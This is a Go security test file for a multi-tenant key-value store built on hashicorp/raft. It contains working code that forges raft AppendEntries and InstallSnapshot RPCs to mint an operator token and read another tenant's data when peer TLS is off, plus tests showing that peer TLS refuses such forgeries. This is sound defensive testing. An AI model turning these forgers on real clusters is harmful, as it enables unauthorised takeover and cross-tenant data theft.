package proof

// Attack: the raft port (issue 18, item 4). An unauthenticated raft port
// lets anyone who reaches it forge raft RPCs; one AppendEntries with a
// higher term carrying a PutToken of the attacker's choosing mints an
// operator token on every node. With peer TLS the raft port accepts only
// certificates of the cluster CA.
//
// The forged RPCs are built by hand in hashicorp/raft's wire format (the
// NetworkTransport of hashicorp/raft v1.7.3, net_transport.go): one byte of
// RPC type, then the request as a msgpack map keyed by field name; the
// answer is a msgpack string (the error) and the response map. The log
// entry is made with the project's own command encoder.

import (
	"bufio"
	"context"
	"crypto/rand"
	"crypto/sha256"
	"crypto/tls"
	"encoding/base64"
	"encoding/hex"
	"errors"
	"fmt"
	"log/slog"
	"net"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/tenantkv/tenantkv/raft/command"

	"github.com/vmihailenco/msgpack/v5"

	"github.com/tenantkv/tenantkv/client"
	"github.com/tenantkv/tenantkv/internal/testpki"
	"github.com/tenantkv/tenantkv/server"
)

// forgedTerm is the attacker's term: far above any term a test cluster
// reaches, so that a node that took it is plain to see.
const forgedTerm = 1 << 32

// hashicorp/raft's RPC types (net_transport.go).
const (
	rpcAppendEntries   = 0
	rpcInstallSnapshot = 2
)

// The requests and responses of hashicorp/raft, as its msgpack codec puts
// them on the wire (maps keyed by field name, the embedded RPCHeader's
// fields inlined; fields left out decode as zero).
type (
	forgedHeader struct {
		ProtocolVersion int
		ID              []byte
		Addr            []byte
	}
	forgedLog struct {
		Index uint64
		Term  uint64
		Type  uint8 // 0: LogCommand
		Data  []byte
	}
	forgedAppend struct {
		forgedHeader      // embedded, as hashicorp/raft's RPCHeader: its fields are inlined
		Term              uint64
		PrevLogEntry      uint64
		PrevLogTerm       uint64
		Entries           []forgedLog
		LeaderCommitIndex uint64
	}
	forgedAppendResp struct {
		Term    uint64
		LastLog uint64
		Success bool
	}
	forgedSnapshot struct {
		forgedHeader
		SnapshotVersion    int
		Term               uint64
		LastLogIndex       uint64
		LastLogTerm        uint64
		Configuration      []byte
		ConfigurationIndex uint64
		Size               int64
	}
)

// attackerHeader claims to come from a leader that does not exist.
var attackerHeader = forgedHeader{ProtocolVersion: 3, ID: []byte("attacker"), Addr: []byte("127.0.0.1:1")}

// raftWire speaks hashicorp/raft's wire format on one connection.
type raftWire struct {
	nc  net.Conn
	w   *bufio.Writer
	enc *msgpack.Encoder
	dec *msgpack.Decoder
}

func newRaftWire(nc net.Conn) *raftWire {
	w := bufio.NewWriter(nc)
	_ = nc.SetDeadline(time.Now().Add(10 * time.Second))
	return &raftWire{nc: nc, w: w, enc: msgpack.NewEncoder(w), dec: msgpack.NewDecoder(bufio.NewReader(nc))}
}

// send writes one RPC (and a snapshot's bytes after it).
func (c *raftWire) send(rpcType byte, req any, tail []byte) error {
	if err := c.w.WriteByte(rpcType); err != nil {
		return err
	}
	if err := c.enc.Encode(req); err != nil {
		return err
	}
	if _, err := c.w.Write(tail); err != nil {
		return err
	}
	return c.w.Flush()
}

// answer reads the error string and the response of one RPC.
func (c *raftWire) answer(resp any) error {
	var rpcErr string
	if err := c.dec.Decode(&rpcErr); err != nil {
		return err
	}
	if err := c.dec.Decode(resp); err != nil {
		return err
	}
	if rpcErr != "" {
		return fmt.Errorf("raft answered: %s", rpcErr)
	}
	return nil
}

func (c *raftWire) appendEntries(req *forgedAppend) (*forgedAppendResp, error) {
	if err := c.send(rpcAppendEntries, req, nil); err != nil {
		return nil, err
	}
	var resp forgedAppendResp
	return &resp, c.answer(&resp)
}

// forgedToken returns an operator token of the attacker's choosing and the
// raft log entry that would create it: a PutToken made with the project's
// own command encoder.
func forgedToken(t testing.TB) (secret string, entry []byte) {
	t.Helper()
	var id [8]byte
	var sb [32]byte
	_, _ = rand.Read(id[:])
	_, _ = rand.Read(sb[:])
	secret = "tkv_" + hex.EncodeToString(id[:]) + "_" + base64.RawURLEncoding.EncodeToString(sb[:])
	h := sha256.Sum256([]byte(secret))
	entry, err := command.Encode(&command.PutToken{Token: command.TokenRecord{
		ID: hex.EncodeToString(id[:]), Hash: h[:], CreatedAt: time.Now().UTC(),
	}})
	if err != nil {
		t.Fatal(err)
	}
	return secret, entry
}

// forgeAppend sends, on a connection from dial, an AppendEntries with the
// attacker's term that asks for the node's last index, then one that
// appends entry after it and commits it. It returns the answer to the
// second, or the first error.
func forgeAppend(dial func() (net.Conn, error), entry []byte) (*forgedAppendResp, error) {
	nc, err := dial()
	if err != nil {
		return nil, err
	}
	defer nc.Close()
	c := newRaftWire(nc)
	probe, err := c.appendEntries(&forgedAppend{forgedHeader: attackerHeader, Term: forgedTerm})
	if err != nil {
		return nil, err
	}
	next := probe.LastLog + 1
	return c.appendEntries(&forgedAppend{
		forgedHeader: attackerHeader, Term: forgedTerm,
		Entries:           []forgedLog{{Index: next, Term: forgedTerm, Type: 0, Data: entry}},
		LeaderCommitIndex: next,
	})
}

// forgeSnapshot sends an InstallSnapshot with the attacker's term and a
// snapshot of junk, and returns the connection for the caller to watch.
func forgeSnapshot(dial func() (net.Conn, error)) (net.Conn, error) {
	nc, err := dial()
	if err != nil {
		return nil, err
	}
	junk := make([]byte, 4096)
	_, _ = rand.Read(junk)
	c := newRaftWire(nc)
	err = c.send(rpcInstallSnapshot, &forgedSnapshot{
		forgedHeader: attackerHeader, SnapshotVersion: 1, Term: forgedTerm,
		LastLogIndex: 1 << 30, LastLogTerm: forgedTerm, ConfigurationIndex: 1 << 30, Size: int64(len(junk)),
	}, junk)
	return nc, err
}

// refusedAtHandshake reports whether the node closed nc without answering
// anything that parses as a raft answer; it reads for at most 10 seconds.
func refusedAtHandshake(nc net.Conn) error {
	_ = nc.SetReadDeadline(time.Now().Add(10 * time.Second))
	var resp forgedAppendResp
	err := (&raftWire{nc: nc, dec: msgpack.NewDecoder(bufio.NewReader(nc))}).answer(&resp)
	var ne net.Error
	switch {
	case err == nil:
		return fmt.Errorf("the node answered the forged RPC: %+v", resp)
	case errors.As(err, &ne) && ne.Timeout():
		return errors.New("the node neither answered nor closed the connection within 10s")
	}
	return nil
}

// TestAttackForgedRaftRPCAcceptedWithoutPeerTLS shows the hole that makes
// plain raft unsafe off loopback: a node without peer TLS (here on
// 127.0.0.1 with --insecure-peers, as any node was before peer TLS) takes a
// forged AppendEntries from anyone who reaches its raft port, and the
// forged operator token it carries then reads another tenant's data. This
// is why a node without peer TLS refuses a raft address that is not
// loopback unless --insecure-peers.
func TestAttackForgedRaftRPCAcceptedWithoutPeerTLS(t *testing.T) {
	c := newClusterWith(t, 1, &cluster{tuning: testRaft, logger: testLogger,
		configure: func(nd *testNode, cfg *server.Config) { cfg.InsecurePeers = true }})
	ctx, cancel := context.WithTimeout(t.Context(), 2*time.Minute)
	defer cancel()
	if _, err := c.admin.CreateTenant(ctx, "victim", nil); err != nil {
		t.Fatal(err)
	}
	if err := c.admin.Tenant("victim").Set(ctx, []byte("secret"), []byte("victim's value")); err != nil {
		t.Fatal(err)
	}
	secret, entry := forgedToken(t)
	nd := c.nodes[0]
	resp, err := forgeAppend(func() (net.Conn, error) { return net.DialTimeout("tcp", nd.raft, 5*time.Second) }, entry)
	if err != nil {
		t.Fatalf("forged AppendEntries over plain TCP: %v", err)
	}
	t.Logf("forged AppendEntries (term %d, PutToken of the attacker's hash) over plain TCP to %s: success=%v, node's term now %d",
		uint64(forgedTerm), nd.raft, resp.Success, resp.Term)
	if !resp.Success {
		t.Fatalf("the node without peer TLS refused the forged AppendEntries: %+v (the demonstration of the hole is broken)", resp)
	}
	// The forged token is an operator token now.
	var db *client.DB
	err = poll(ctx, func() error {
		var err error
		db, err = client.Open(ctx, c.endpoints(), &client.Options{Token: secret, DialTimeout: time.Second})
		return err
	})
	if err != nil {
		t.Fatalf("the forged token does not authenticate: %v", err)
	}
	defer db.Close()
	var got []byte
	err = poll(ctx, func() error {
		var err error
		got, err = db.Tenant("victim").Get(ctx, []byte("secret"))
		return err
	})
	if err != nil {
		t.Fatalf("forged operator token: %v", err)
	}
	t.Logf("HOLE (plain raft): the forged operator token authenticated and read tenant victim's value %q", got)
}

// peerPKI is a cluster CA and its node certificates, made at test time.
type peerPKI struct {
	t   testing.TB
	dir string
	ca  *testpki.CA
}

func newPeerPKI(t testing.TB) *peerPKI {
	return &peerPKI{t: t, dir: t.TempDir(), ca: newCA(t, "tenantkv cluster CA")}
}

func newCA(t testing.TB, name string) *testpki.CA {
	t.Helper()
	ca, err := testpki.NewCA(name)
	if err != nil {
		t.Fatal(err)
	}
	return ca
}

// configure gives every node a certificate of the cluster CA.
func (p *peerPKI) configure(nd *testNode, cfg *server.Config) {
	setPeerTLS(p.t, cfg, p.ca, p.dir, nd.id)
}

// setPeerTLS gives cfg a certificate of ca for 127.0.0.1, written to dir.
func setPeerTLS(t testing.TB, cfg *server.Config, ca *testpki.CA, dir, name string) {
	f, err := ca.WriteFiles(dir, name, testpki.Leaf{})
	if err != nil {
		t.Fatal(err)
	}
	cfg.PeerTLSCertFile, cfg.PeerTLSKeyFile, cfg.PeerTLSCAFile = f.Cert, f.Key, f.CA
}

// TestAttackForgedRaftRPCRefusedWithPeerTLS sends the forged AppendEntries
// and InstallSnapshot to every node of a peer-TLS cluster, over plain TCP
// and over TLS without a certificate, with a self-signed one and with one of
// another CA: every connection is closed at the handshake and logged, and
// nothing changes (terms, leader, the forged token does not authenticate,
// the victim's data).
func TestAttackForgedRaftRPCRefusedWithPeerTLS(t *testing.T) {
	pki := newPeerPKI(t)
	logs := &lockedBuffer{}
	// Default raft timing: no election without a cause during the test, so
	// that "leader unchanged" means something.
	c := newClusterWith(t, 3, &cluster{
		tuning:    server.RaftTuning{HeartbeatTimeout: time.Second, ElectionTimeout: time.Second},
		logger:    slog.New(slog.NewTextHandler(logs, &slog.HandlerOptions{Level: slog.LevelInfo})),
		configure: pki.configure,
	})
	ctx, cancel := context.WithTimeout(t.Context(), 3*time.Minute)
	defer cancel()
	if _, err := c.admin.CreateTenant(ctx, "victim", nil); err != nil {
		t.Fatal(err)
	}
	if err := c.admin.Tenant("victim").Set(ctx, []byte("secret"), []byte("victim's value")); err != nil {
		t.Fatal(err)
	}
	leader, err := c.waitLeader(ctx)
	if err != nil {
		t.Fatal(err)
	}
	before := map[string]uint64{}
	for _, nd := range c.nodes {
		st, err := c.status(ctx, nd)
		if err != nil {
			t.Fatal(err)
		}
		before[nd.id] = st.Term
	}

	otherCert, err := newCA(t, "another CA").Issue("rogue", testpki.Leaf{})
	if err != nil {
		t.Fatal(err)
	}
	selfSigned := newCA(t, "self-signed").SelfSigned()
	attackers := []struct {
		name string
		dial func(addr string) (net.Conn, error)
	}{
		{"plain TCP", func(addr string) (net.Conn, error) { return net.DialTimeout("tcp", addr, 5*time.Second) }},
		{"TLS without a certificate", func(addr string) (net.Conn, error) { return attackerTLS(addr, nil) }},
		{"TLS with a self-signed certificate", func(addr string) (net.Conn, error) { return attackerTLS(addr, &selfSigned) }},
		{"TLS with a certificate of another CA", func(addr string) (net.Conn, error) { return attackerTLS(addr, &otherCert) }},
	}
	secret, entry := forgedToken(t)
	var firstRemote []string // the attacker's address of the first connection to each node
	for _, nd := range c.nodes {
		for i, a := range attackers {
			var local string
			dial := func() (net.Conn, error) {
				nc, err := a.dial(nd.raft)
				if err == nil && local == "" {
					local = nc.LocalAddr().String()
				}
				return nc, err
			}
			resp, err := forgeAppend(dial, entry)
			var ne net.Error
			switch {
			case err == nil:
				t.Fatalf("%s: forged AppendEntries to %s answered: %+v", a.name, nd.id, resp)
			case errors.As(err, &ne) && ne.Timeout():
				t.Fatalf("%s: forged AppendEntries to %s: the node neither answered nor closed the connection: %v", a.name, nd.id, err)
			}
			t.Logf("%s: forged AppendEntries to %s refused: %v", a.name, nd.id, err)
			if i == 0 {
				firstRemote = append(firstRemote, local)
			}
			nc, err := forgeSnapshot(dial)
			if err != nil {
				t.Logf("%s: forged InstallSnapshot to %s refused while sending: %v", a.name, nd.id, err)
				continue
			}
			if err := refusedAtHandshake(nc); err != nil {
				t.Fatalf("%s: forged InstallSnapshot to %s: %v", a.name, nd.id, err)
			}
			nc.Close()
			t.Logf("%s: forged InstallSnapshot to %s refused", a.name, nd.id)
		}
	}

	// Nothing changed: the cluster still takes writes, under the same
	// leader and terms, and the forged token is unknown everywhere.
	if err := c.waitWritable(ctx, "victim"); err != nil {
		t.Fatal(err)
	}
	for _, nd := range c.nodes {
		st, err := c.status(ctx, nd)
		if err != nil {
			t.Fatal(err)
		}
		if st.Term != before[nd.id] || st.LeaderID != leader.id {
			t.Errorf("%s: term %d (before %d), leader %s (before %s)", nd.id, st.Term, before[nd.id], st.LeaderID, leader.id)
		}
		if _, _, err := loginRaw(ctx, nd.listen, secret); err == nil {
			t.Errorf("%s: the forged token authenticates", nd.id)
		}
	}
	got, err := c.admin.Tenant("victim").Get(ctx, []byte("secret"))
	if err != nil || string(got) != "victim's value" {
		t.Errorf("victim's value: %q, %v", got, err)
	}
	// Logged, with the attacker's address (the first refusals of each node
	// are within the log's rate limit).
	text := logs.String()
	for _, remote := range firstRemote {
		if !strings.Contains(text, "remote="+remote) {
			t.Errorf("no refusal logged for the attacker's connection from %s", remote)
		}
	}
	refused := strings.Count(text, "refused a peer connection")
	t.Logf("%d refusals logged at warn level for %d forged connections", refused, 2*len(attackers)*len(c.nodes))
	if refused == 0 {
		t.Errorf("no refusal logged")
	}
}

// attackerTLS dials addr over TLS, trusting any server (the attacker does
// not care whom it talks to) and presenting cert if not nil.
func attackerTLS(addr string, cert *tls.Certificate) (net.Conn, error) {
	cfg := &tls.Config{InsecureSkipVerify: true, MinVersion: tls.VersionTLS12}
	if cert != nil {
		// Always present it (Certificates would be withheld when the
		// server's list of acceptable CAs does not name its issuer).
		cfg.GetClientCertificate = func(*tls.CertificateRequestInfo) (*tls.Certificate, error) { return cert, nil }
	}
	return tls.DialWithDialer(&net.Dialer{Timeout: 5 * time.Second}, "tcp", addr, cfg)
}

// TestPeerTLSCluster runs a three-node cluster with peer TLS: it
// replicates, elects a new leader when the leader stops, takes a fourth
// node that must install a snapshot (the leader keeps only 16 log entries),
// and refuses a node whose certificate comes from another CA.
func TestPeerTLSCluster(t *testing.T) {
	pki := newPeerPKI(t)
	logs := &lockedBuffer{}
	tuning := testRaft
	tuning.SnapshotThreshold, tuning.SnapshotInterval, tuning.TrailingLogs = 64, 100*time.Millisecond, 16
	c := newClusterWith(t, 3, &cluster{
		tuning:    tuning,
		logger:    slog.New(slog.NewTextHandler(logs, &slog.HandlerOptions{Level: slog.LevelInfo})),
		configure: pki.configure,
	})
	ctx, cancel := context.WithTimeout(t.Context(), 5*time.Minute)
	defer cancel()
	if _, err := c.admin.CreateTenant(ctx, "acme", nil); err != nil {
		t.Fatal(err)
	}
	tn := c.admin.Tenant("acme")
	set := func(key []byte) {
		t.Helper()
		// Retried through elections: setting the same value twice is
		// harmless.
		if err := poll(ctx, func() error { return tn.Set(ctx, key, []byte("v")) }); err != nil {
			t.Fatal(err)
		}
	}
	const keys = 300
	for i := range keys {
		set(fmt.Appendf(nil, "k%04d", i))
	}
	last := fmt.Appendf(nil, "k%04d", keys-1)
	waitStale := func(nd *testNode, key []byte) {
		t.Helper()
		// A node that just joined may not know the leader yet, and then
		// does not take a hello.
		err := poll(ctx, func() error {
			db, err := client.Open(ctx, []string{nd.listen}, &client.Options{Token: c.token, DialTimeout: time.Second})
			if err != nil {
				return err
			}
			defer db.Close()
			_, err = db.Tenant("acme").WithStaleReads().Get(ctx, key)
			return err
		})
		if err != nil {
			t.Fatalf("%s does not have %s: %v", nd.id, key, err)
		}
	}
	for _, nd := range c.nodes {
		waitStale(nd, last)
	}
	t.Logf("replicated %d writes to 3 nodes over peer TLS", keys)

	// Election: stop the leader; the other two elect one over TLS.
	old, err := c.waitLeader(ctx)
	if err != nil {
		t.Fatal(err)
	}
	c.kill(old)
	nl, err := c.waitLeader(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if err := c.waitWritable(ctx, "acme"); err != nil {
		t.Fatal(err)
	}
	t.Logf("leader %s stopped, %s elected", old.id, nl.id)
	if err := c.restart(ctx, old); err != nil {
		t.Fatal(err)
	}

	// A fourth node joins after the log was compacted: it installs a
	// snapshot over the TLS transport.
	for i := range keys {
		set(fmt.Appendf(nil, "m%04d", i))
	}
	n4 := c.addNode(ctx, "n4")
	waitStale(n4, fmt.Appendf(nil, "m%04d", keys-1))
	waitStale(n4, last)
	err = poll(ctx, func() error {
		for _, line := range strings.Split(logs.String(), "\n") {
			if strings.Contains(line, "Installed remote snapshot") && strings.Contains(line, "node="+n4.id) {
				return nil
			}
		}
		return errors.New("no snapshot installed")
	})
	if err != nil {
		t.Fatalf("%s caught up without installing a snapshot: %v", n4.id, err)
	}
	t.Logf("%s joined over peer TLS and installed the leader's snapshot", n4.id)

	// A node whose certificate comes from another CA cannot join.
	other := newCA(t, "another CA")
	rogue := &testNode{idx: len(c.nodes), id: n4.id[:len(n4.id)-2] + "rogue", dir: filepath.Join(c.root, "rogue")}
	ports, err := freePorts(2)
	if err != nil {
		t.Fatal(err)
	}
	rogue.listen, rogue.raft = ports[0], ports[1]
	cfg := c.config(rogue)
	setPeerTLS(t, &cfg, other, t.TempDir(), rogue.id)
	jctx, jcancel := context.WithTimeout(ctx, 30*time.Second)
	defer jcancel()
	srv, err := server.Start(jctx, cfg)
	if err == nil {
		srv.Close()
		t.Fatal("a node with a certificate of another CA joined the cluster")
	}
	if !strings.Contains(err.Error(), "permission denied") {
		t.Errorf("the rogue node's join failed, but not as refused: %v", err)
	}
	t.Logf("rogue join refused: %v", err)
	st, err := c.status(ctx, c.nodes[0])
	if err != nil {
		t.Fatal(err)
	}
	for _, m := range st.Members {
		if m.ID == rogue.id {
			t.Errorf("the rogue node is a member: %+v", m)
		}
	}
	if len(st.Members) != 4 {
		t.Errorf("%d members after the refused join, want 4", len(st.Members))
	}
	if !strings.Contains(logs.String(), "join refused") {
		t.Errorf("the refused join is not logged")
	}
}

// addNode starts one more node that joins the cluster.
func (c *cluster) addNode(ctx context.Context, name string) *testNode {
	c.t.Helper()
	base := c.nodes[0].id
	nd := &testNode{idx: len(c.nodes), id: base[:len(base)-2] + name, dir: filepath.Join(filepath.Dir(c.nodes[0].dir), name)}
	p, err := c.net.Listen(nd.id)
	if err != nil {
		c.t.Fatal(err)
	}
	nd.proxy = p
	c.nodes = append(c.nodes, nd)
	sctx, cancel := context.WithTimeout(ctx, startTimeout)
	defer cancel()
	if err := c.firstStart(sctx, nd); err != nil {
		c.t.Fatalf("start %s: %v", nd.id, err)
	}
	return nd
}
